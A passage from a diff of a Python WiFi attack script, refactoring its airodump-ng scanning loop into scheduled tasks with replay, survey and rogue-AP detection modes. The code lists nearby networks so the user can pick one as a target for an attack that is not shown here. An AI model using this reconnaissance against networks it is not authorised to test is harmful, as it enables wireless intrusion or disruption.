+         to form the monitor mode interface name (e.g., "wlan0mon").
        - Context: Set by the prior 'airmon-ng start hacknic', which enables monitor mode on wlan0 as wlan0mon.
+       - If the chosen interface was already in monitor mode, it is hacknic itself.
        - Purpose: Specifies the interface for airodump-ng to use for sniffing.
 
 3. stdout=subprocess.DEVNULL
@@ -456,76 +616,363 @@ Line Breakdown:
    - Effect: Prevents error messages (e.g., interface warnings) from cluttering the terminal.
 
 5. discover_access_points = ...
-   - Assignment: Stores the Popen object in 'discover_access_points'.
-   - Purpose: Allows later interaction with the process (e.g., discover_access_points.terminate() to 
-     stop it), though this script does not currently utilize this functionality.
+   - Assignment: Stores the CaptureSupervisor in 'discover_access_points'.
+   - Purpose: Its status_line() is shown under the scan table, and discover_access_points.stop() stops 
+     airodump-ng cleanly when the scan ends.
+
+6. Replay mode (--replay PATH)
+   - Instead of airodump-ng, a Replayer (see wifiscan/replay.py) writes airodump-ng-style CSV output into 
+     a temporary directory from a background thread, and the scan loop below reads that directory.
+   - PATH is either a directory of CSV snapshots (e.g. copies of file-01.csv taken during an earlier scan), 
+     replayed in name order with their original spacing, or a pcap/pcapng capture whose beacons are 
+     decoded and written out once per second of capture time.
+   - --replay-speed 10 replays ten times faster; --replay-speed 0 as fast as possible.
+   - No root, WiFi adapter or airmon-ng is needed: all of those steps are skipped, and so is 
+     the attack at the end. This makes it possible to test and tune the scanning code anywhere.
 """
+ingestor = CsvIngestor(scan_directory, stations=args.clients)
+watcher = make_watcher(scan_directory)
+if survey_store:
+    survey_store.start_scan(interface=scan_interface, source=scan_source)
+signal_history = SignalHistory()
+channel_occupancy = ChannelOccupancy()
+channel_summary = channel_occupancy.analyze(max_age=args.age_out).describe()
+change_tracker = ChangeTracker(age_out=args.age_out)
+station_index = StationIndex(age_out=args.age_out) if args.clients else None
+event_sink = change_tracker.subscribe(JsonlSink(args.events)) if args.events else None
+vendor_index = VendorIndex(args.oui).preload()
+rogue_detector = None
+if args.detect_rogues:
+    rogue_detector = RogueDetector(vendor_index)
+    change_tracker.subscribe(rogue_detector.on_events)
+    if event_sink:
+        rogue_detector.subscribe(event_sink)
+renderer = None
+survey_writer = survey_limit = None
+if args.headless:
+    survey_writer = SurveyWriter(args.output, args.format, args.emit, buffer_lines=args.buffer)
+    change_tracker.subscribe(survey_writer)
+    if args.duration or args.until_stable:
+        survey_limit = change_tracker.subscribe(SurveyLimit(args.duration, args.until_stable))
+else:
+    renderer = TableRenderer(title="Currently scanning networks. Hit Ctrl+C to pick a target for the attack.", history=signal_history,
+                             vendors=vendor_index, max_fps=0)
+stats = ScanStats(dump_path=args.stats)
+scheduler = Scheduler(stats)
+profiler = Profiler(args.profile, args.profile_ticks, args.profile_output) if args.profile else None
+if profiler:
+    profiler.start()
+# The capture's clock (change_tracker.now, the latest sighting), the time.monotonic() at which it last moved
+# and how fast it runs: without new rows it stands still, and is moved on from these for aging APs out.
+clock_seen, clock_moved = change_tracker.now, time.monotonic()
+clock_rate = args.replay_speed if args.replay and args.replay_speed else 1.0
+
+
+def ingest():
+    global clock_seen, clock_moved
+    # Noted before reading, so that the pass that ends a replay has ingested its last snapshot.
+    replay_done = args.replay and replayer.finished.is_set()
+    stats.begin_tick()
+    with stats.stage("listdir"):
+        changed_files = ingestor.changed_files()
+    with stats.stage("parse"):
+        changed_aps = ingestor.read_files(changed_files)
+        changed_stations = ingestor.take_stations() if station_index is not None else []
+    if changed_stations:
+        with stats.stage("stations"):
+            station_index.update(changed_stations)
+    if changed_aps:
+        with stats.stage("dedup"):
+            active_wireless_networks.update_many(changed_aps)
+        with stats.stage("events"):
+            events = change_tracker.update(changed_aps)
+        if change_tracker.now != clock_seen:
+            clock_seen, clock_moved = change_tracker.now, time.monotonic()
+        with stats.stage("history"):
+            signal_history.record(changed_aps)
+        with stats.stage("channels"):
+            channel_occupancy.update(changed_aps)
+        if survey_store:
+            with stats.stage("store"):
+                survey_store.record(changed_aps)
+        if status_server:
+            with stats.stage("serve"):
+                status_server.publish(changed_aps, events)
+        scheduler.trigger("analysis")
+    if renderer and (changed_aps or changed_stations):
+        renderer.invalidate()
+        scheduler.trigger("render")
+    rows = len(changed_aps) + len(changed_stations)
+    stats.end_tick(rows)
+    if profiler:
+        profiler.tick()
+    if replay_done or (survey_writer and survey_writer.broken):
+        scheduler.stop()
+    return rows
+
+
+def analyze():
+    global channel_summary
+    idle = (time.monotonic() - clock_moved) * clock_rate
+    if change_tracker.now and idle >= 1.0:
+        # No new sighting for a while (airodump-ng stopped writing, or nothing is in range any more):
+        # APs still age out, on the capture's clock moved on by the time since.
+        with stats.stage("events"):
+            events = change_tracker.expire(clock_seen + idle)
+        if events and status_server:
+            status_server.publish((), events)
+    if renderer:
+        with stats.stage("analysis"):
+            summary = channel_occupancy.analyze(max_age=args.age_out).describe()
+        if summary != channel_summary:
+            channel_summary = summary
+            renderer.invalidate()
+            scheduler.trigger("render")
+
+
+def render():
+    with stats.stage("render"):
+        status = stats.status_line() if args.replay else discover_access_points.status_line() + " | " + stats.status_line()
+        status_lines = [channel_summary, status]
+        if rogue_detector:
+            status_lines.insert(0, rogue_detector.status_line())
+        if station_index is not None:
+            status_lines.insert(0, station_index.status_line())
+        if status_server:
+            status_lines.insert(0, status_server.status_line())
+        return renderer.render(active_wireless_networks, status=status_lines)
+
+
+def snapshot():
+    if len(active_wireless_networks):
+        with stats.stage("survey"):
+            survey_writer.snapshot(active_wireless_networks, change_tracker.now)
+
+
+def check_limit():
+    reason = survey_limit.reached()
+    if reason:
+        print(f"Survey finished ({'--duration reached' if reason == 'duration' else 'no new APs for --until-stable'}).")
+        scheduler.stop()
+    else:
+        limit_task.idle = survey_limit.next_check()
+
+
+def wait(timeout):
+    if watcher.wait(timeout=timeout, wake_fds=renderer.wake_fds if renderer else ()):
+        scheduler.trigger("ingest")
+    if renderer:
+        renderer.handle_keys()
+        if renderer.pending:
+            scheduler.trigger("render")
+
+
+scheduler.add("ingest", ingest, idle=1.0, adapter=CadenceAdapter())
+scheduler.add("analysis", analyze, interval=1.0, idle=1.0)
+if renderer:
+    scheduler.add("render", render, interval=0.25, idle=5.0, adapter=CostAdapter(min_interval=0.25))
+if args.headless and args.emit == "snapshots":
+    scheduler.add("snapshot", snapshot, idle=args.snapshot_every)
+if survey_limit:
+    limit_task = scheduler.add("limit", check_limit, idle=survey_limit.next_check())
+
 try:
-    while True:
-        subprocess.call("clear", shell=True)
-        for file_name in os.listdir():
-            fieldnames = ['BSSID', 'First_time_seen', 'Last_time_seen', 'channel', 'Speed', 'Privacy', 'Cipher', 'Authentication', 'Power', 'beacons', 'IV', 'LAN_IP', 'ID_length', 'ESSID', 'Key']
-            if ".csv" in file_name:
-                with open(file_name) as csv_h:
-                    csv_h.seek(0)
-                    csv_reader = csv.DictReader(csv_h, fieldnames=fieldnames)
-                    for row in csv_reader:
-                        if row["BSSID"] == "BSSID":
-                            pass
-                        elif row["BSSID"] == "Station MAC":
-                            break
-                        elif check_for_essid(row["ESSID"], active_wireless_networks):
-                            active_wireless_networks.append(row)
-
-        print("Currently scanning networks. Hit Ctrl+C to pick a target for the attack.\n")
-        print("No |\tBSSID              |\tChannel|\tESSID                         |")
-        print("___|\t___________________|\t_______|\t______________________________|")
-        for index, item in enumerate(active_wireless_networks):
-            print(f"{index}\t{item['BSSID']}\t{item['channel'].strip()}\t\t{item['ESSID']}")
-        time.sleep(1)
+    scheduler.run(wait)
 
 except KeyboardInterrupt:
-    print("\nTime to choose your target.")
-    
+    pass
+finally:
+    if renderer:
+        renderer.close()
+    if args.replay:
+        replayer.stop()
+        shutil.rmtree(scan_directory, ignore_errors=True)
+    else:
+        discover_access_points.stop()
+    if event_sink:
+        event_sink.close()
+    if survey_writer:
+        if args.emit == "snapshots":
+            survey_writer.snapshot(active_wireless_networks, change_tracker.now)
+        survey_writer.close()
+    if survey_store:
+        survey_store.close()
+    if status_server:
+        status_server.stop()
+    if profiler:
+        profiler.stop()
+    stats.dump()
+
+if args.headless:
+    print(f"Survey: {len(active_wireless_networks)} networks seen, {survey_writer.written} lines written "
+          f"to {'stdout' if args.output == '-' else args.output}.")
+    exit()
+
+print("\nTime to choose your target.")
+
 """
 Purpose:
 This code continuously scans and displays nearby wireless networks by reading the CSV file generated 
-by airodump-ng (started earlier with subprocess.Popen). It builds a list of unique access points in 
+by airodump-ng (started earlier with subprocess.Popen). It builds a registry of access points (one per BSSID) in 
 'active_wireless_networks' and allows the user to stop scanning with Ctrl+C to select a target 
 network for the attack. This is the main scanning loop, presenting a live-updating table of 
 detected networks.
 
 Line-by-Line Explanation:
-1. try:
-   - Purpose: Starts a try/except block to catch exceptions, specifically the KeyboardInterrupt raised 
-     when the user presses Ctrl+C.
-   - Why: The loop runs indefinitely (while True), and Ctrl+C provides a graceful exit mechanism.
-
-2. while True:
-   - Action: Creates an infinite loop that runs until interrupted.
-   - Purpose: Continuously updates the list and display of wireless networks as airodump-ng writes 
-     new data to the CSV file.
-
-3. subprocess.call("clear", shell=True)
-   - subprocess.call(): Runs a command and waits for it to finish, returning the exit code.
-   - Command: "clear" - A shell command to clear the terminal screen.
-   - shell=True: Executes the command via the shell, necessary since 'clear' is a shell builtin, 
-     not a standalone executable.
-   - Effect: Clears the terminal each loop iteration to refresh the display, preventing clutter 
-     from previous outputs.
-
-4. for file_name in os.listdir():
-   - os.listdir(): Lists all files and directories in the current working directory.
-   - Loop: Iterates over each filename (e.g., "file-01.csv", "script.py").
-   - Purpose: Searches for .csv files written by airodump-ng.
-
-5. fieldnames = ['BSSID', 'First_time_seen', 'Last_time_seen', 'channel', 'Speed', 'Privacy', 
-                 'Cipher', 'Authentication', 'Power', 'beacons', 'IV', 'LAN_IP', 'ID_length', 
-                 'ESSID', 'Key']
-   - Description: A list of column names matching the structure of airodump-ng’s CSV output for 
-     access points.
-   - Purpose: Used by csv.DictReader to map CSV columns to dictionary keys.
-   - Details: Mirrors airodump-ng’s CSV format, which lacks headers. Each field represents:
+0. ingestor = CsvIngestor()
+   - CsvIngestor: Defined in wifiscan/ingest.py. It remembers, for every .csv file in the current 
+     directory, the inode, modification time and size seen on the previous tick, together with the 
+     raw lines it has already parsed.
+   - Purpose: Lets each pass of the loop below do work proportional to what changed in the CSV 
+     output, instead of re-reading every file from the top once a second.
+
+   station_index = StationIndex(age_out=args.age_out)  (only with --clients)
+   - StationIndex: Defined in wifiscan/stations.py. Remembers, for every client (station) MAC address, the AP it is 
+     associated with, and for every AP the set of its clients, together with running counts of clients, 
+     associations gained and lost (churn) and packets. The ingestor is created with stations=True so that it 
+     parses the station section as well. Clients not seen for --age-out seconds are dropped.
+
+   watcher = make_watcher()
+   - make_watcher: Defined in wifiscan/watch.py. Returns an InotifyWatcher, which asks the Linux 
+     kernel (through the inotify API) to report changes to files in the current directory. On 
+     systems without inotify it falls back to a PollingWatcher that checks the files’ size and 
+     modification time every 0.1 seconds.
+
+   signal_history = SignalHistory()
+   - SignalHistory: Defined in wifiscan/history.py. Keeps the last 60 Power readings and beacon 
+     counts of every AP in fixed-size ring buffers (compact arrays of 16-bit numbers), so its memory 
+     does not grow with the length of the scan.
+
+   channel_occupancy = ChannelOccupancy()
+   - ChannelOccupancy: Defined in wifiscan/channels.py. Keeps the channel, power, beacons and last-seen 
+     time of every AP in compact columns (one array per field) for the channel analysis below.
+   - channel_summary: The line shown under the table; "Channels: no APs yet" until the first APs arrive.
+
+   change_tracker = ChangeTracker(age_out=args.age_out)
+   - ChangeTracker: Defined in wifiscan/events.py. Remembers a few fields (ESSID, channel, power, encryption, ...) 
+     of every AP and its last sighting, to turn the rows that changed in each pass into events (see step 4).
+   - event_sink: With --events, a JsonlSink subscribed to the tracker, which appends each event to the file.
+
+   vendor_index = VendorIndex(args.oui).preload()
+   - VendorIndex: Defined in wifiscan/vendors.py. preload() starts reading the OUI list (the first three bytes of 
+     a MAC address, assigned to each manufacturer) in a background thread, so the table appears without waiting for it.
+     The ~35,000 entries of the full list are kept in a sorted array and searched by binary search, and the 
+     vendor of each BSSID is remembered after the first lookup (for up to 4096 BSSIDs).
+
+   rogue_detector = RogueDetector(vendor_index)  (only with --detect-rogues)
+   - RogueDetector: Defined in wifiscan/rogue.py. Subscribed to the change tracker, it keeps, for every ESSID, the 
+     BSSIDs broadcasting it with their channel, encryption and vendor, updated only from the APs that appeared or 
+     changed. It raises an alert when a known ESSID shows up with an encryption none of its BSSIDs use (e.g. an open 
+     copy of a WPA2 network), on a new BSSID from an unrelated vendor, or on a related new BSSID on a channel the 
+     network does not use, or when a known BSSID moves to another channel, all of which are signs of an evil twin. The latest alert is shown above the channel summary, and with --events every 
+     alert is also written to the events file ({"event": "rogue", "kind": "encryption", ...}).
+   - Several BSSIDs sharing an ESSID is normal for mesh and enterprise networks; they come from the same vendor 
+     and raise only a "low" alert, which is not shown (an evil twin cloning the OUI of the real AP looks the same 
+     unless it uses another channel; python3 -m wifiscan.rogue --min-severity low lists them).
+
+   renderer = TableRenderer(title="...", history=signal_history, vendors=vendor_index, max_fps=0)
+   - TableRenderer: Defined in wifiscan/render.py. It remembers what is currently on the screen and, 
+     on each frame, writes ANSI escape codes that move the cursor to the cells whose text changed 
+     and overwrite just those cells. The title is shown on the first line of the table.
+   - history: Adds the AVG, MIN, MED and MAX columns (mean, weakest, median and strongest Power over 
+     the AP’s last 60 updates) next to the current PWR.
+   - vendors: Adds the VENDOR column, e.g. "TP-LINK" or "Ubiquiti". Randomized and other locally administered 
+     BSSIDs (phone hotspots, for instance) show "(private)".
+   - max_fps=0: The renderer draws whenever it is asked to; how often that is is decided by the scheduler (below).
+   - With --headless there is no renderer (renderer is None): nothing is drawn and no key is read, the render 
+     task below is not added and the analysis task only ages APs out.
+
+   survey_writer = SurveyWriter(args.output, args.format, args.emit, buffer_lines=args.buffer)  (only with --headless)
+   - SurveyWriter: Defined in wifiscan/survey.py. Subscribed to the change tracker, it writes the events of each 
+     pass as JSON lines or CSV rows (with --emit deltas), or the whole registry when asked to (with --emit 
+     snapshots). Lines are held until the end of the pass, but never more than --buffer of them.
+   - survey_limit = SurveyLimit(args.duration, args.until_stable): With --duration or --until-stable, notes when 
+     the survey started and when a BSSID was last seen for the first time (an AP that ages out and comes back 
+     does not count), to tell when the survey is over.
+
+   survey_store.start_scan(interface=scan_interface)
+   - With --db, adds a row for this run to the scans table; the observations recorded below belong to it.
+
+   stats = ScanStats(dump_path=args.stats)
+   - ScanStats: Defined in wifiscan/stats.py. Counts, for each stage of the loop (listdir, parse, 
+     stations, dedup, events, history, channels, analysis, store, serve, render, survey) and for the whole pass, how many times it ran and how long it took, in 
+     fixed-size histograms (so memory does not grow with the length of the scan). It also keeps a 
+     histogram of how many rows each pass processed, and, for each task of the scheduler, how often it ran, 
+     how late, how many overruns it had and its current rate (see step 2).
+   - dump_path: With --stats, the counters are written to that JSON file every 10 seconds and on exit.
+
+   scheduler = Scheduler(stats)
+   - Scheduler: Defined in wifiscan/scheduler.py. Runs the three tasks of the scan (ingest, analysis, render) 
+     each at its own rate instead of one after the other in a single loop (see step 2).
+
+   profiler = Profiler(...) / profiler.start()
+   - Only with --profile: starts cProfile or tracemalloc now and writes the report after 
+     --profile-ticks passes of the loop (or when the scan is stopped, if that comes first).
+
+1. def ingest() / def analyze() / def render() / def wait(timeout)
+   - The work of the scan, split in three tasks (steps 3 to 6) and the function that waits in between (step 7).
+   - They used to run one after the other in a single "while True" loop, so a slow redraw (a large table over 
+     SSH) held up reading airodump-ng's output, and the channel analysis ran as often as airodump-ng wrote.
+
+2. scheduler.add(...) / try: scheduler.run(wait)
+   - scheduler.add("ingest", ingest, idle=1.0, adapter=CadenceAdapter()): Ingestion runs as soon as the watcher 
+     sees airodump-ng write (see step 7). Should a write go unnoticed, it also runs on its own after an idle 
+     period that follows the pace at which writes actually bring new rows: twice the usual time between them 
+     (about 2 seconds with --write-interval 1), growing by half on every run that finds nothing, up to 30 
+     seconds. An idle environment therefore wakes the script less and less often.
+   - scheduler.add("analysis", analyze, interval=1.0, idle=1.0): The channel analysis runs when ingest() asks for 
+     it, at most once a second, and at least once a second. When no sighting has come in for a second or more 
+     (airodump-ng stopped writing, or nothing is in range any more), it first ages APs out with 
+     change_tracker.expire(), on the capture's clock moved on by the time since the latest sighting (at 
+     --replay-speed when replaying): update() only ages APs out when rows come in, so "disappeared" events 
+     would otherwise never come for the headless survey, the --events file and the WebSocket viewers.
+   - scheduler.add("render", render, interval=0.25, idle=5.0, adapter=CostAdapter(min_interval=0.25)): Drawing 
+     runs when asked for (new rows, a new channel summary or a key press) and at least every 5 seconds. The time 
+     a frame takes is mostly the terminal taking the output, so frames are spaced to keep drawing under a tenth 
+     of the time: at most 4 frames per second, fewer when each frame is slow (e.g. 2 per second when a frame takes 
+     50 ms), never fewer than one every 2 seconds.
+   - With --headless, scheduler.add("snapshot", snapshot, idle=args.snapshot_every) writes the registry every 
+     --snapshot-every seconds (with --emit snapshots; stage "survey"), and scheduler.add("limit", check_limit, ...) 
+     stops the scheduler once --duration has passed or no new BSSID has appeared for --until-stable seconds. 
+     The limit task sets its own idle period to the time left until one of them can be reached, so it wakes 
+     the script only when needed.
+   - scheduler.run(wait): Runs each task when it is due, and calls wait() with the time until the next one in 
+     between. A task that starts more than one interval late, or takes longer than its interval, is counted as an 
+     overrun; the rates and overruns appear at the end of the timing summary (e.g. "every ingest 2 s, analysis 
+     1 s, render 0.25 s, overruns 0") and under "tasks" in the --stats file.
+   - try: Starts a try/except/finally block to catch the KeyboardInterrupt raised when the user presses Ctrl+C, 
+     and to clean up however the scan ends. scheduler.run() runs until then.
+
+3. ingest(): stats.begin_tick() and "with stats.stage(name):"
+   - begin_tick() notes the time at which this pass of ingestion starts.
+   - Each "with stats.stage(name):" block is timed and added to the counters for that stage, so the 
+     time spent listing the directory, parsing, updating the registry, writing the database and 
+     drawing the table can be told apart.
+
+   changed_files = ingestor.changed_files()  (stage "listdir")
+   - Looks at every file whose name contains ".csv" (e.g., "file-01.csv") and keeps only those 
+     whose inode, modification time or size changed since the last tick; unchanged files are 
+     skipped without being opened.
+
+   changed_aps = ingestor.read_files(changed_files)  (stage "parse")
+   - For each changed file:
+     - Parses only the part after the old end of the file if airodump-ng merely appended to it.
+     - Otherwise compares the file line by line with the previous version and parses only the lines 
+       that are new or different (airodump-ng rewrites the whole file every --write-interval, but most 
+       lines stay the same between two writes).
+     - Ignores a last line that has no newline yet, because airodump-ng may still be writing it.
+     - Stops at the "Station MAC" line, which marks the start of the stations section (the script 
+       targets APs only), and drops the "BSSID, First time seen, ..." header line. With --clients, the 
+       changed lines of the stations section are parsed too, into Station records that 
+       ingestor.take_stations() hands over, and station_index.update(changed_stations) (stage "stations") 
+       moves each client to the AP it is now associated with, adjusting the per-AP counts by the difference.
+   - Result: A list of AccessPoint records (see wifiscan/records.py), one per changed access point line.
+     Each record stores the columns below once, already cleaned up: numbers such as channel, Power and 
+     beacons are converted to int, and the few distinct Privacy/Cipher/Authentication strings are 
+     shared between records instead of being stored again for every AP.
+   - Columns (wifiscan.ingest.AP_FIELDNAMES): 'BSSID', 'First_time_seen', 'Last_time_seen', 
+     'channel', 'Speed', 'Privacy', 'Cipher', 'Authentication', 'Power', 'beacons', 'IV', 'LAN_IP', 
+     'ID_length', 'ESSID', 'Key'. They mirror airodump-ng’s CSV columns:
      - BSSID: MAC address of the access point (e.g., 00:11:22:33:44:55).
      - First_time_seen: Timestamp of first detection (e.g., 2025-03-16 05:00:00).
      - Last_time_seen: Timestamp of last observation (e.g., 2025-03-16 05:05:00).
@@ -541,76 +988,132 @@ Line-by-Line Explanation:
      - ID_length: ESSID length in bytes (e.g., 6).
      - ESSID: Network name (e.g., MyWiFi).
      - Key: Captured key, if any (usually empty).
+   - Example: The CSV line "00:11:22:33:44:55, 2025-03-13 15:00:00, ...,  6, ..., MyWiFi," becomes 
+     an AccessPoint with bssid "00:11:22:33:44:55", essid "MyWiFi" and channel 6.
+
+4. if changed_aps: active_wireless_networks.update_many(changed_aps)  (stage "dedup")
+   - Passes each changed AccessPoint to active_wireless_networks.upsert(ap), keyed by ap.bssid.
+   - A BSSID seen for the first time is added at the end of the table; a known BSSID has its entry 
+     updated in place (Power, Last_time_seen, beacons, ...), keeping its position in the table.
+   - Cost: One dictionary lookup per changed row, independent of how many APs are in the table.
+   - change_tracker.update(changed_aps)  (stage "events"): Compares each changed AP with what the tracker 
+     remembers and produces an "appeared" event for a new BSSID and an "updated" event listing the old and new 
+     value of each field that changed. APs whose last sighting is more than --age-out seconds older than the 
+     newest one are dropped with a "disappeared" event (they stay in the table; the analysis task does the 
+     same while no rows come in). Subscribers such as the 
+     --events file get the events of each pass as a list; the work is proportional to the number of changes, 
+     not to the number of APs.
+   - signal_history.record(changed_aps)  (stage "history"): Adds each changed AP’s Power and the 
+     beacons received since its previous update to its ring buffer. The oldest reading drops out 
+     once 60 are stored; running sums and a per-dBm histogram are updated at the same time, so the 
+     mean, minimum, median and maximum shown in the table cost the same however long the scan runs.
+   - channel_occupancy.update(changed_aps)  (stage "channels"), then .analyze(max_age=args.age_out) in the analysis 
+     task (stage "analysis"), which ingest() asks for with scheduler.trigger("analysis"): Updates the columns of 
+     the changed APs, then counts the APs seen within --age-out seconds of the latest sighting per channel and works out how congested each channel is: 
+     the summed power (in milliwatts) of every AP that reaches it. 2.4 GHz channels are 22 MHz wide 
+     but only 5 MHz apart, so an AP on channel 3 also adds to channels 1 and 6, in proportion to how 
+     much they overlap. The least congested of channels 1, 6 and 11, and of the 5 GHz channels, is 
+     recommended, e.g. "Busiest: ch6 41, ch1 30, ch11 22 | best 2.4 GHz: ch11 (-52 dBm) | best 5 GHz: 
+     ch149 (clear)". With NumPy installed this is done with vectorized array operations; without it, 
+     per-channel totals are kept up to date as APs change. Either way it takes well under a 
+     millisecond, even with tens of thousands of APs.
+   - With --detect-rogues, the events are passed on to rogue_detector (see above) in the same stage.
+   - survey_store.record(changed_aps)  (stage "store"): With --db, writes the changed APs to the survey database, all 
+     in one transaction per tick (one commit per second instead of one per AP).
+   - status_server.publish(changed_aps, events)  (stage "serve"): With --serve, hands the changed APs (and the ones 
+     that disappeared) to the server thread, which works out the changed fields and sends them to every viewer. 
+     The scan never waits for a viewer.
+   - renderer.invalidate() / scheduler.trigger("render"): Tells the renderer the table changed, and asks for 
+     the render task to run as soon as its rate allows.
+   - stats.end_tick(rows) / profiler.tick(): end_tick() records how long the ingestion took and how many 
+     rows it processed; profiler.tick() counts down the passes left to profile and writes the report when done.
+   - if replay_done or survey_writer.broken: scheduler.stop(): A headless survey written to a pipe stops when the 
+     reader goes away (e.g. "| head"). In replay mode, replayer.finished is set once the last snapshot has been 
+     written. It is noted at the start of ingest(), so the pass that sees it has already read that snapshot; the 
+     scheduler then draws the last frame it was asked for and returns, as if Ctrl+C had been pressed. A replay 
+     therefore runs unattended from start to end, e.g. "--replay DIR --replay-speed 0 --stats stats.json" for a 
+     repeatable regression run.
+
+5. renderer.handle_keys()  (in wait())
+   - Reads any keys pressed since the last pass without waiting for Enter (the terminal is put in 
+     "cbreak" mode while the table is shown):
+     - "c" sorts the table by channel, "p" by signal strength (strongest first), "n" back to the 
+       order in which the networks were found.
+     - Up/Down arrows scroll one row, PgUp/PgDn one screen, when there are more networks than fit 
+       in the terminal.
+   - The "No" column always shows the network’s number in active_wireless_networks, whatever the 
+     sort order, so it is the number to type when picking a target.
+
+6. render(): renderer.render(active_wireless_networks, status=status_lines)  (stage "render")
+   - Builds the frame: the title, a status line with the sort order and visible rows, the column 
+     headers (No, BSSID, CH, PWR, AVG, MIN, MED, MAX, VENDOR, ESSID), one row per visible network and, at the 
+     bottom, the server address and number of viewers (with --serve, e.g. "Serving http://127.0.0.1:8080/: 2 WebSocket 
+     viewers, tick 310"), the client summary (with --clients, e.g. "Clients: 412 associated with 57 APs, 130 unassociated, 
+     churn 530 | busiest: 00:11:22:33:44:55 23, ..."), the rogue AP alert line (with --detect-rogues), the channel summary and a line with the state of airodump-ng from discover_access_points.status_line() (e.g., "airodump-ng running, 
+     1 restarts (last: no output for 6 s)") followed by the timing summary from stats.status_line() 
+     (e.g., "tick 1.2 ms (p90 2.5 ms) | listdir 0.1 | parse 0.8 | ... | rows 1520/37 ticks").
+   - Compares it cell by cell with the frame already on screen and writes only the differences. 
+     The first frame clears the screen; after that, a change in one AP’s power rewrites one cell.
+   - Does nothing if the table has not changed. The scheduler spaces the frames (step 2), so they are 
+     capped at 4 per second however often airodump-ng writes.
+   - Why: Running "clear" through a shell every second and printing the whole table again caused 
+     flicker, forked a process per refresh and sent the full table to the terminal (or over SSH) 
+     each time.
+
+7. wait(timeout): watcher.wait(timeout=timeout, wake_fds=renderer.wake_fds)
+   - Action: Sleeps until airodump-ng modifies (or creates, or finishes writing) a .csv file in the 
+     current directory, then returns immediately and asks for the ingest task to run.
+   - wake_fds: Also returns when a key is pressed; the keys are handled (step 5) and a frame is asked 
+     for, so sorting and scrolling react straight away. With --headless there are no keys to wait for.
+   - timeout: The time until the next task is due, given by the scheduler: a frame waiting for its turn, 
+     or the idle period of the ingest and render tasks.
+   - Why: A fixed time.sleep(1) added up to a second of delay to every update and woke the script 
+     up every second even when nothing had changed.
+
+8. except KeyboardInterrupt:
+   - What it catches: KeyboardInterrupt, raised by Ctrl+C.
+   - Purpose: Exits the loop gracefully when the user stops scanning.
+
+9. finally:
+   - Runs after Ctrl+C, but also when anything else in the loop raises an exception, so an error can 
+     never leave airodump-ng running in the background or the terminal in cbreak mode. The exception 
+     is then shown as usual.
+   - renderer.close(): Restores the terminal’s normal line-by-line input mode, needed by the input() prompt below.
+   - The table stays on the screen, so the network numbers are still visible.
+   - replayer.stop(): In replay mode, stops the replay thread and deletes the temporary directory it 
+     was writing to.
+   - discover_access_points.stop(): Otherwise, stops airodump-ng (SIGTERM, then SIGKILL if it does not exit within 
+     3 seconds) and its supervisor, so it does not keep running and hopping channels after the scan.
+   - event_sink.close(): With --events, closes the events file.
+   - survey_store.close(): With --db, marks the scan as finished and closes the database.
+   - status_server.stop(): With --serve, closes the WebSocket connections and stops listening.
+   - profiler.stop(): With --profile, writes the report if it has not been written yet.
+   - stats.dump(): With --stats, writes the final counters.
+   - survey_writer.close(): With --headless, writes a last snapshot (with --emit snapshots) and what is left in 
+     the buffer, and closes the output file.
+
+10. if args.headless: ... exit()
+   - A headless survey ends here, after printing (to stderr) how many networks were seen and how many lines 
+     were written. It never gets to the target selection or the attack below: nothing is transmitted.
+
+11. print("\nTime to choose your target.")
+   - Purpose: Confirms scanning has stopped and prompts target selection. Not reached if the loop 
+     ended with an error.
+"""
 
-6. if ".csv" in file_name:
-   - Condition: Checks if the filename contains ".csv" (e.g., "file-01.csv").
-   - Purpose: Filters to process only CSV files, ignoring others (e.g., "script.py").
-
-7. with open(file_name) as csv_h:
-   - Action: Opens the CSV file in read mode ("r" is default), assigning the file object to csv_h.
-   - with: Ensures the file closes properly after use, even if an error occurs.
-
-8. csv_h.seek(0)
-   - Action: Moves the file pointer to the start of the file (position 0).
-   - Purpose: Ensures reading begins from the top each iteration, as the file may have been 
-     appended by airodump-ng.
-   - Note: Old data isn’t re-displayed due to check_for_essid filtering duplicates in 
-     active_wireless_networks.
-
-9. csv_reader = csv.DictReader(csv_h, fieldnames=fieldnames)
-   - csv.DictReader: From the csv module (imported with 'import csv'). Reads the CSV and returns 
-     each row as a dictionary using 'fieldnames' as keys.
-   - Example: CSV line "00:11:22:33:44:55, 2025-03-13 15:00:00, ..., MyWiFi" becomes 
-     {"BSSID": "00:11:22:33:44:55", "ESSID": "MyWiFi", "channel": "6", ...}.
-
-10. for row in csv_reader:
-    - Loop: Iterates over each row in the CSV as a dictionary.
-    - Purpose: Processes rows to filter and build the active_wireless_networks list.
-
-11. if row["BSSID"] == "BSSID": pass
-    - Condition: Checks if "BSSID" column value is literally "BSSID".
-    - Why: Acts as a defensive check for a potential header row or artifact (rare in standard 
-      airodump-ng CSV, which starts with data).
-    - pass: Skips this row, ensuring it’s not treated as an AP.
-
-12. elif row["BSSID"] == "Station MAC": break
-    - Condition: Checks if "BSSID" column contains "Station MAC".
-    - Why: Marks the start of the stations section in airodump-ng’s CSV (after AP data).
-    - break: Exits the loop, stopping before processing station data (script targets APs only).
-
-13. elif check_for_essid(row["ESSID"], active_wireless_networks):
-    - check_for_essid: A function that returns True if row["ESSID"] isn’t in active_wireless_networks.
-    - Condition: True if the ESSID is unique or the list is empty.
-    - active_wireless_networks.append(row): Adds the AP dictionary to the list if not a duplicate.
-
-14. print("Currently scanning networks. Hit Ctrl+C to pick a target for the attack.\n")
-    - Purpose: Informs the user that scanning is ongoing and how to proceed.
-
-15. print("No |\tBSSID              |\tChannel|\tESSID                         |")
-    - Purpose: Prints a table header with columns separated by tabs.
-
-16. print("___
-
-|\t___________________|\t_______|\t______________________________|")
-    - Purpose: Prints a separator line under the header.
-
-17. for index, item in enumerate(active_wireless_networks):
-    - enumerate: Pairs each AP dictionary with an index (e.g., (0, {"BSSID": "00:11:22:33:44:55", ...})).
-
-18. print(f"{index}\t{item['BSSID']}\t{item['channel'].strip()}\t\t{item['ESSID']}")
-    - Action: Prints each AP’s index, BSSID, channel, and ESSID.
-    - .strip(): Removes whitespace from channel.
-
-19. time.sleep(1)
-    - Action: Pauses for 1 second.
-    - Purpose: Updates the display every second, aligning with airodump-ng’s --write-interval 1.
+if args.replay:
+    print(f"Replay stopped after {replayer.snapshots_written} snapshots; {len(active_wireless_networks)} networks seen.")
+    exit()
 
-20. except KeyboardInterrupt:
-    - What it catches: KeyboardInterrupt, raised by Ctrl+C.
-    - Purpose: Exits the loop gracefully when the user stops scanning.
+if tools.simulated:
